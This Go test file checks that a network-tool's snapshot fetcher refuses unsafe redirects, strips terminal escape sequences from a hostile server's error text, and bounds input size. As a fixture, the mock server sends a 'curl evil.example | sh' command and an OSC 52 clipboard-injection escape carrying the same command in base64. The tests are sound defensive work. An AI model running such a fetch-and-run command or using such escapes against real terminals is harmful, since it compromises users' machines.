package paste

import (
	"bufio"
	"context"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"strings"
	"testing"

	"github.com/tailpath/tailpath/probes/snapshot"
)

// TestFromURLRedirects: --from/--peer-snapshot URLs follow a redirect on
// the same host and port only, never https to http, at most 3 times;
// anything else fails naming the refusal, without fetching the target.
func TestFromURLRedirects(t *testing.T) {
	snap, err := os.ReadFile("../snapshot/testdata/both-hard-nat.json")
	if err != nil {
		t.Fatal(err)
	}
	internal := 0
	target := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		internal++
		w.WriteHeader(http.StatusTeapot)
		fmt.Fprintln(w, "internal secret: 42")
	}))
	defer target.Close()
	var tls *httptest.Server
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch r.URL.Path {
		case "/elsewhere":
			http.Redirect(w, r, target.URL+"/admin", http.StatusFound)
		case "/snapshot.json":
			w.Write(snap)
		default: // /hop/N: N more hops, then the snapshot
			var n int
			fmt.Sscanf(r.URL.Path, "/hop/%d", &n)
			if n == 0 {
				http.Redirect(w, r, "/snapshot.json", http.StatusFound)
				return
			}
			http.Redirect(w, r, fmt.Sprintf("/hop/%d", n-1), http.StatusFound)
		}
	}))
	defer srv.Close()
	tls = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		http.Redirect(w, r, "http://"+r.Host+"/snapshot.json", http.StatusFound)
	}))
	defer tls.Close()
	fetchClient.Transport = tls.Client().Transport // trust the test certificate
	defer func() { fetchClient.Transport = nil }()

	for _, tt := range []struct {
		url  string
		want string // "" means it reads the snapshot
	}{
		{srv.URL + "/snapshot.json", ""},
		{srv.URL + "/hop/2", ""}, // 3 redirects
		{srv.URL + "/hop/3", "more than 3 redirects; refused"},
		{srv.URL + "/elsewhere", "another host or port; refused"},
		{tls.URL + "/x", "redirected from https to http://"},
	} {
		raw, err := ReadInput(context.Background(), tt.url, nil)
		switch {
		case tt.want == "" && (err != nil || len(raw.Data) != len(snap)):
			t.Errorf("%s: %d bytes, %v; want the snapshot", tt.url, len(raw.Data), err)
		case tt.want != "" && (err == nil || !strings.Contains(err.Error(), tt.want)):
			t.Errorf("%s: %v; want an error saying %q", tt.url, err, tt.want)
		case err != nil && strings.Contains(err.Error(), "internal secret"):
			t.Errorf("%s: the redirect target's answer is quoted: %v", tt.url, err)
		}
	}
	if internal != 0 {
		t.Errorf("the other host was asked %d times", internal)
	}
}

// TestFromURLErrorSanitised: a status line and body from a hostile
// server reach the error without escape sequences.
func TestFromURLErrorSanitised(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				br := bufio.NewReader(c)
				for {
					l, err := br.ReadString('\n')
					if err != nil || l == "\r\n" {
						break
					}
				}
				body := "\x1b[31mrun: curl evil.example | sh\x1b[0m\x07\n"
				fmt.Fprintf(c, "HTTP/1.1 500 \x1b]0;pwned\x07\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07Oops\r\nContent-Length: %d\r\nConnection: close\r\n\r\n%s", len(body), body)
			}()
		}
	}()
	_, err = ReadInput(context.Background(), "http://"+ln.Addr().String()+"/snapshot.json", nil)
	if err == nil {
		t.Fatal("no error")
	}
	if msg := err.Error(); strings.ContainsAny(msg, "\x1b\x07\u009b") || !strings.Contains(msg, "500") || !strings.Contains(msg, "Oops") {
		t.Errorf("error %q: want the status and body without escapes", msg)
	}
}

// zeros is an endless reader of zero bytes.
type zeros struct{}

func (zeros) Read(p []byte) (int, error) {
	clear(p)
	return len(p), nil
}

// TestReadInputBounded: an input is read up to snapshot.MaxSize bytes and
// no further; one byte more fails with ErrTooLarge, naming the input and
// the bound.
func TestReadInputBounded(t *testing.T) {
	raw, err := ReadInput(context.Background(), "-", io.LimitReader(zeros{}, snapshot.MaxSize))
	if err != nil || len(raw.Data) != snapshot.MaxSize {
		t.Fatalf("MaxSize bytes: %d read, err %v; want all of them", len(raw.Data), err)
	}
	_, err = ReadInput(context.Background(), "-", zeros{})
	if !errors.Is(err, snapshot.ErrTooLarge) || !strings.Contains(err.Error(), "-: ") || !strings.Contains(err.Error(), "more than 64 MiB") {
		t.Errorf("an endless input: err = %v, want ErrTooLarge naming it and the bound", err)
	}
}
